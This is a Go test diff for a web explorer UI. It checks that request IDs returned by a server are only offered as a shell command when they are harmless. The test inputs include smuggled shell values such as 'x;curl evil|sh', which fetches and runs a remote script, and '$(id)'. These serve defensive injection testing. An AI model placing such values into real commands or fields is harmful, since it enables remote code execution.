@@ -114,6 +114,34 @@ func TestExplorerInABrowser(t *testing.T) {
 	exploresHarmless(t, e)
 	exploresBodies(t, ctx, e, app)
 	exploresStreams(t, ctx, e, app)
+	exploresIDs(t, ctx, w, e)
+}
+
+// exploresIDs reads request IDs of a server that is called directly: they are whatever it likes.
+func exploresIDs(t *testing.T, ctx context.Context, w *world, e explorer) {
+	t.Helper()
+	app := &plainApp{cors: true}
+	connection, _ := w.byHand(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
+		id, names := r.URL.Query().Get("id"), rw.Header()
+		names.Set("Access-Control-Expose-Headers", "X-Request-Id, X-Ace-Relay-Request-Id")
+		if id == "" || r.Method == http.MethodOptions {
+			app.ServeHTTP(rw, r)
+			return
+		}
+		names.Set("Access-Control-Allow-Origin", "*")
+		names.Set(r.URL.Query().Get("as"), id)
+		rw.WriteHeader(http.StatusForbidden)
+	}), "hostile IDs")
+	e.run("its explorer", chromedp.Navigate(string(w.cloudURL)+"/connections/"+connection.ID+"/explorer"), chromedp.WaitReady(`[data-call][data-ready]`))
+	for _, as := range []string{"X-Request-Id", "X-Ace-Relay-Request-Id"} {
+		for _, id := range []string{"x;curl evil|sh", "--insecure", "$(id)", strings.Repeat("x", 101)} {
+			e.call("GET", "/?as="+as+"&id=plain-1.a", "403 Forbidden")
+			e.holds("an ID", `document.querySelector("[data-note]").textContent.includes("ace why plain-1.a --server")`)
+			e.call("GET", "/?as="+as+"&id="+url.QueryEscape(id), "directly")
+			e.holds("no command of "+id, `document.querySelector("[data-explain]").textContent.includes("403") && document.querySelector("[data-note]").textContent === ""`)
+		}
+	}
+	shoot(t, ctx, "explorer-plain")
 }
 
 // exploresHarmless calls for answers that are out to harm the page.
